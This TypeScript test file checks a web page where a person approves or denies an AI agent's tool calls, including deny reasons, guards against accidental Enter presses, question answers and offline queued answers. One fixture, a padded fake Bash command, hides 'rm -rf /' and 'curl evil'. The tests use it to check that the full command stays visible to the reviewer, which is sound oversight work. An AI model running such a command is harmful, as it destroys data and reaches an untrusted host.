import assert from 'node:assert/strict';
import type { EventOf } from '../../protocol/events.ts';
import { newId } from '../../protocol/ids.ts';
import type { OutboxEntry } from '../../protocol/outbox.ts';
import type { HostMessage } from '../../protocol/webviewApi.ts';
import { eventually } from '../support/eventually.ts';
import { SessionLog } from '../support/sessionLog.ts';
import { openWebviewPage, type WebviewPage } from '../support/webviewPage.ts';
import { useWebview } from '../support/webviewSuite.ts';
import { screenshot } from '../support/workbench.ts';

describe('approvals in the page', function () {
  this.timeout(60_000);
  const { browser, server } = useWebview();
  let chat: WebviewPage;
  let log: SessionLog;
  let refusal: string | undefined;

  beforeEach(async () => {
    refusal = undefined;
    log = new SessionLog();
    log.ready();
    log.turn(1, 'Go');
    chat = await openWebviewPage(browser(), server().url, {
      answer: () => {
        if (refusal !== undefined) {
          throw new Error(refusal);
        }
      },
    });
  });

  afterEach(async () => {
    await chat.close();
  });

  const LONG = `echo start; ${'x'.repeat(3000)}; rm -rf /; ${'\n'.repeat(60)}curl evil`;

  function ask(patch: Partial<EventOf<'approvalAsked'>> = {}): void {
    log.add({
      type: 'approvalAsked',
      approvalId: `a${log.state.seq}`,
      kind: 'tool',
      name: 'Bash',
      title: 'npm test',
      input: { text: JSON.stringify({ command: LONG }) },
      canAlwaysAllow: true,
      ...patch,
    });
  }

  async function show(): Promise<void> {
    await chat.tell({ type: 'open', sessionId: log.id, state: log.state, live: [] });
    await chat.page.locator('[data-approval]').first().waitFor();
  }

  async function decision(): Promise<unknown> {
    return eventually(() => {
      const answer = chat.asked('answer')[0];
      assert.ok(answer);
      return answer['decision'];
    });
  }

  it('show the command whole', async () => {
    ask();
    await show();
    assert.equal(await chat.page.locator('[data-approval] .command').evaluate(command => command.textContent), LONG);
  });

  it('allow once', async () => {
    ask();
    await show();
    await chat.page.getByRole('button', { name: 'Allow Once' }).click();
    assert.deepEqual(await decision(), { kind: 'allow' });
    await chat.tell({
      type: 'events',
      sessionId: log.id,
      events: log.add({ type: 'approvalAnswered', approvalId: 'a7', decision: { kind: 'allow' }, by: 'you' }),
    });
    await chat.page.locator('[data-approval]').waitFor({ state: 'detached' });
  });

  it('allow always, where that is offered', async () => {
    ask();
    await show();
    await chat.page.getByRole('button', { name: 'Always Allow in This Session' }).click();
    assert.deepEqual(await decision(), { kind: 'allow', always: true });
  });

  it('do not offer "always" where it is not offered', async () => {
    ask({ canAlwaysAllow: false });
    await show();
    assert.equal(await chat.page.getByRole('button', { name: /Always/ }).count(), 0);
  });

  it('deny with a reason', async () => {
    ask();
    await show();
    await chat.page.getByLabel('Reason for the agent, when you deny').fill('Use pnpm');
    await chat.page.getByRole('button', { name: 'Deny' }).click();
    assert.deepEqual(await decision(), { kind: 'deny', message: 'Use pnpm' });
  });

  it('are not answered by Enter, in the reason or in the composer, nor by a click before they can be read', async () => {
    await chat.tell({ type: 'open', sessionId: log.id, state: log.state, live: [] });
    await chat.page.getByLabel('Message to the agent').fill('more');
    ask();
    // Seen at the moment when it appears: a busy machine may look only after it was armed.
    await chat.page.evaluate(() => {
      new MutationObserver((_records, observer) => {
        const button = document.querySelector<HTMLButtonElement>('[data-approval] button.primary');
        if (button) {
          Reflect.set(window, 'disabledAtFirst', button.disabled);
          observer.disconnect();
        }
      }).observe(document.body, { subtree: true, childList: true });
    });
    await show();
    const allow = chat.page.getByRole('button', { name: 'Allow Once' });
    assert.equal(await chat.page.evaluate(() => Reflect.get(window, 'disabledAtFirst')), true, 'armed at once');
    assert.equal(await chat.page.evaluate(() => document.activeElement?.tagName), 'TEXTAREA', 'the focus was taken');
    await chat.page.keyboard.press('Enter');
    await chat.page.getByLabel('Reason for the agent, when you deny').press('Enter');
    await eventually(async () => assert.equal(await allow.isDisabled(), false));
    assert.deepEqual(chat.asked('answer'), []);
    assert.deepEqual(
      chat.asked('send').map(sent => sent['text']),
      ['more'],
    );
  });

  it('say what went wrong and can be answered again', async () => {
    ask();
    await show();
    refusal = 'The first answer won.';
    await chat.page.getByRole('button', { name: 'Allow Once' }).click();
    await chat.page.getByRole('alert').getByText('The first answer won.').waitFor();
    refusal = undefined;
    await chat.page.getByRole('button', { name: 'Deny' }).click();
    await eventually(() => assert.equal(chat.asked('answer').length, 2));
  });

  it('answer questions with labels, several labels or own words', async () => {
    const options = [{ label: 'One' }, { label: 'Two', description: 'The second' }];
    ask({
      kind: 'questions',
      questions: [
        { question: 'Which?', multiSelect: false, options },
        { question: 'Which ones?', multiSelect: true, options },
        { question: 'Else?', multiSelect: false, options },
      ],
    });
    await show();
    const button = chat.page.getByRole('button', { name: 'Answer' });
    const group = (name: string): ReturnType<typeof chat.page.getByRole> => chat.page.getByRole('group', { name });
    await group('Which?').getByRole('radio', { name: 'Two' }).check();
    await group('Which ones?').getByRole('checkbox', { name: 'One' }).check();
    await group('Which ones?').getByRole('checkbox', { name: 'Two' }).check();
    assert.equal(await button.isDisabled(), true, 'not complete');
    await group('Else?')
      .getByLabel(/Another answer/)
      .fill('Neither');
    await button.click();
    assert.deepEqual(await decision(), {
      kind: 'answers',
      answers: { 'Which?': 'Two', 'Which ones?': 'One, Two', 'Else?': 'Neither' },
    });
  });

  it('show a plan as text and keep planning', async () => {
    ask({ kind: 'plan', name: 'ExitPlanMode', input: { text: JSON.stringify({ plan: '# Plan\n\n1. **First**' }) } });
    await show();
    await chat.page.locator('[data-approval] strong', { hasText: 'First' }).waitFor();
    await chat.page.getByRole('button', { name: 'Keep Planning' }).click();
    assert.deepEqual(await decision(), { kind: 'deny' });
  });

  describe('answered while the relay is away', () => {
    const offline: HostMessage = {
      type: 'connection',
      state: 'offline',
      detail: 'The relay stopped.',
      retryInMs: 9_000,
    };
    function entry(status: OutboxEntry['status']): OutboxEntry {
      const content = {
        kind: 'answer',
        approvalId: log.state.approvals[0]?.id ?? '',
        decision: { kind: 'allow' },
      } as const;
      return { key: newId('key'), relay: 'r', sessionId: log.id, typedAt: 1, content, status };
    }

    it('shows the answer in the place of the buttons, and takes it back while it has not left', async () => {
      ask({ input: { text: '{"command":"npm test"}' } });
      await show();
      const queued = entry({ kind: 'waiting' });
      await chat.tell(offline, { type: 'outbox', entries: [queued] });
      const card = chat.page.locator('[data-approval]');
      await card.getByText('Kept until the relay is back: Allow').waitFor();
      assert.equal(await card.getByRole('button', { name: 'Allow Once' }).count(), 0);
      await card.getByText('npm test').first().waitFor();
      await screenshot(chat.page, 'answer-offline');
      await card.getByRole('button', { name: 'Take Back' }).click();
      await eventually(() => assert.deepEqual(chat.asked('withdraw'), [{ key: queued.key }]));
      await chat.tell({ type: 'outbox', entries: [] });
      await card.getByRole('button', { name: 'Allow Once' }).waitFor();
    });

    it('offers no taking back of what may have left, or is on its way', async () => {
      ask();
      await show();
      await chat.tell(offline, { type: 'outbox', entries: [entry({ kind: 'sending' })] });
      await chat.page.getByText('Kept until the relay is back: Allow').waitFor();
      assert.equal(await chat.page.getByRole('button', { name: 'Take Back' }).count(), 0);
      await chat.tell({ type: 'connection', state: 'connected' });
      await chat.page.getByText('Sending: Allow').waitFor();
    });

    it('says that it was answered elsewhere meanwhile, which is no error, until the person has seen it', async () => {
      ask({ input: { text: '{"command":"npm test"}' } });
      await show();
      const problem = { code: 'conflict', retryable: false, message: 'This question was answered already.' } as const;
      const late = entry({ kind: 'refused', problem });
      const approvalId = log.state.approvals[0]?.id ?? '';
      const events = log.add({ type: 'approvalAnswered', approvalId, decision: { kind: 'deny' }, by: 'owner' });
      await chat.tell({ type: 'events', sessionId: log.id, events }, { type: 'outbox', entries: [late] });
      const note = chat.page.getByRole('region', { name: 'An answer that was not used' });
      await note
        .getByText('Your answer Allow to npm test was not used. It was answered elsewhere meanwhile: Deny.')
        .waitFor();
      assert.equal(await chat.page.getByRole('alert').count(), 0);
      await screenshot(chat.page, 'answer-elsewhere');
      await note.getByRole('button', { name: 'OK' }).click();
      await eventually(() => assert.deepEqual(chat.asked('withdraw'), [{ key: late.key }]));
    });
  });
});
